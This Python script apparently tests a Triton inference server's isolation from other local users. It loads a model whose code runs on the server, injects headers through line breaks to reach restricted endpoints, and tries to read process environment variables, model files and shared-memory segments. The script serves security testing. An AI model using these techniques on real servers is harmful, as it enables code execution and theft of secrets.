"""What another user of the machine tries on a server; standard library only. Says what worked."""

import base64
import encodings.idna  # noqa: F401 - before the libraries are out of reach
import http.client
import json
import os
import re
import socket
import sys
from pathlib import Path

EVIL = """
import os, pathlib
pathlib.Path({marker!r}).write_text(str(os.getuid()))
class TritonPythonModel:
    def execute(self, requests):
        return []
"""
CONFIG = {
    "name": "evil",
    "backend": "python",
    "input": [{"name": "a", "data_type": "TYPE_INT64", "dims": [1]}],
    "output": [{"name": "b", "data_type": "TYPE_INT64", "dims": [1]}],
    "instance_group": [{"count": 1, "kind": "KIND_CPU"}],
}
CLOSED = ("/v2/logging", "/v2/trace/setting", "/v2/systemsharedmemory/status")


def attack(pid, address, marker):
    """Names of what worked."""
    words = Path("/proc", pid, "cmdline").read_text().split("\0")
    headers = [None, *(re.findall(r":([^:=]+)=(.+)", " ".join(words), re.S)), *keys(words)]
    worked = {name for header in headers for name in over_http(address, header, marker)}
    worked |= {"reached gRPC" for place in grpc_places(words) if connects(place)}
    return sorted(worked | {f"read {path}" for path in private(pid, words) if reads(path)})


def keys(words):
    """Each header and value that the command line tells of."""
    told = [w.partition(":")[2].partition("=") for w in words if w.startswith("--http-restricted")]
    return [(name, value) for name, _, value in told]


def over_http(address, header, marker):
    body = {
        "config": json.dumps(CONFIG),
        "file:1/model.py": base64.b64encode(EVIL.format(marker=marker).encode()).decode(),
    }
    load = json.dumps({"parameters": body}).encode()
    if ask(address, "POST", "/v2/repository/models/evil/load", header, load) == 200:
        yield "loaded a model"
    if ask(address, "POST", "/v2/repository/index", header) == 200:
        yield "listed the models"
    yield from (f"asked {path}" for path in CLOSED if ask(address, "GET", path, header) == 200)


def ask(address, method, path, header, body=b""):
    """The status, of a request made by hand: a library refuses a header with a line break."""
    line = ":".join(header) + "\r\n" if header else ""
    head = (
        f"{method} {path} HTTP/1.1\r\nHost: {address}\r\n{line}Content-Length: {len(body)}\r\n\r\n"
    )
    host, port = address.split(":")
    with socket.create_connection((host, int(port)), 60) as connection:
        connection.sendall(head.encode() + body)
        answer = http.client.HTTPResponse(connection)
        try:
            answer.begin()
        except (http.client.HTTPException, OSError):
            return 0
        return answer.status


def grpc_places(words):
    given = dict(word[2:].partition("=")[::2] for word in words if word.startswith("--grpc"))
    place = f"{given['grpc-address']}:{given['grpc-port']}"
    return [place, f"127.0.0.1:{given['grpc-port']}"]


def connects(place):
    scheme, _, path = place.partition("unix:")
    family = socket.AF_INET if scheme else socket.AF_UNIX
    host, _, port = place.rpartition(":")
    with socket.socket(family) as connection:
        try:
            connection.connect((host, int(port)) if scheme else path)
        except OSError:
            return False
        return True


def private(pid, words):
    given = dict(word[2:].partition("=")[::2] for word in words if word.startswith("--"))
    models, name = Path(given["model-repository"]), given["id"]
    return [models, models.parent, Path("/proc", pid, "environ"), *segments(name)]


def segments(name):
    return list(Path("/dev/shm").glob(f"*{name}*"))  # noqa: S108


def reads(path):
    try:
        return bool(list(path.iterdir()) if path.is_dir() else path.read_bytes())
    except OSError:
        return False


def become(user):
    """Give up all rights for those of another user."""
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)


if __name__ == "__main__":
    become(int(sys.argv[1]))
    print(json.dumps(attack(*sys.argv[2:])))
